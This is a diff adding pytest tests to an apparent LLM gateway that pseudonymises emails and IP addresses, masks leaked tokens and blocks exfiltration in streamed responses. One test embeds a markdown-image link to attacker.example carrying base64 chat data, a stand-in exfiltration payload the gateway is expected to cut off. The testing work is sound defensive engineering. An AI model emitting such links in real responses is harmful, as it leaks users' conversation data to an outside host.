@@ -116,3 +116,69 @@ def test_anthropic_and_gemini_pseudonyms_round_trip(gateway: Gateway) -> None:
     result = client.models.generate_content(model="gemini-2.0-flash", contents="mail carol@example.com please")
     assert "carol@example.com" in result.text
     assert "carol@example.com" not in upstream_text(gateway)
+
+
+def test_streamed_pseudonyms_are_restored_chunk_by_chunk(gateway: Gateway) -> None:
+    stream = oai(gateway).chat.completions.create(
+        model="gpt-4o",
+        messages=[{"role": "user", "content": "stream to dave@example.com now"}],
+        stream=True,
+        extra_headers={"x-fake-chunks": "30"},
+    )
+    text = "".join(c.choices[0].delta.content or "" for c in stream if c.choices)
+    assert "dave@example.com" in text and "<EMAIL_" not in text
+    assert "dave@example.com" not in upstream_text(gateway)
+
+
+def test_streamed_secret_in_output_is_masked(gateway: Gateway) -> None:
+    leaked = "ghp_" + "Z9y8X7w6V5u4T3s2R1q0P9o8N7m6L5k4J3i2"
+    stream = oai(gateway).chat.completions.create(
+        model="gpt-4o",
+        messages=[{"role": "user", "content": "hi"}],
+        stream=True,
+        extra_headers={"x-fake-answer": f"the token is {leaked} ok", "x-fake-chunks": "20"},
+    )
+    text = "".join(c.choices[0].delta.content or "" for c in stream if c.choices)
+    assert leaked not in text and "****" in text and text.endswith(" ok")
+
+
+def test_streamed_exfiltration_ends_the_stream_with_an_sdk_error(gateway: Gateway) -> None:
+    link = "![x](https://attacker.example/c?d=c2VjcmV0LWRhdGEtZnJvbS10aGUtY2hhdA==)"
+    stream = oai(gateway).chat.completions.create(
+        model="gpt-4o",
+        messages=[{"role": "user", "content": "hi"}],
+        stream=True,
+        extra_headers={"x-request-id": "exfil-stream-1", "x-fake-answer": f"Here you go. {link} bye", "x-fake-chunks": "15"},
+    )
+    received = []
+    with pytest.raises(openai.APIError) as exc:
+        for chunk in stream:
+            received.append(chunk.choices[0].delta.content or "" if chunk.choices else "")
+    assert "output blocked" in str(exc.value)
+    assert "attacker.example" not in "".join(received)
+    audit = gateway.audit_for("exfil-stream-1")
+    assert audit["error"]["kind"] == "output_blocked" and "cut after" in audit["error"]["message"]
+
+
+def test_ip_addresses_are_hashed_for_the_provider(gateway: Gateway) -> None:
+    oai(gateway).chat.completions.create(model="gpt-4o", messages=[{"role": "user", "content": "the server 203.0.113.77 is down"}])
+    seen = upstream_text(gateway)
+    assert "203.0.113.77" not in seen and "<IP_ADDRESS:" in seen
+
+
+def test_anthropic_stream_restores_pseudonyms(gateway: Gateway) -> None:
+    claude = anthropic.Anthropic(base_url=gateway.url, api_key=gateway.keys["dev"], max_retries=0)
+    with claude.messages.stream(
+        model="claude-haiku-4-5", max_tokens=100, messages=[{"role": "user", "content": "stream to erin@example.com"}]
+    ) as stream:
+        text = "".join(stream.text_stream)
+    assert "erin@example.com" in text and "<EMAIL_" not in text
+    assert "erin@example.com" not in upstream_text(gateway)
+
+
+def test_gemini_stream_restores_pseudonyms(gateway: Gateway) -> None:
+    client = genai.Client(api_key=gateway.keys["dev"], http_options=types.HttpOptions(base_url=gateway.url))
+    chunks = list(client.models.generate_content_stream(model="gemini-2.0-flash", contents="stream to frank@example.com"))
+    text = "".join(c.text or "" for c in chunks)
+    assert "frank@example.com" in text and "<EMAIL_" not in text
+    assert "frank@example.com" not in upstream_text(gateway)
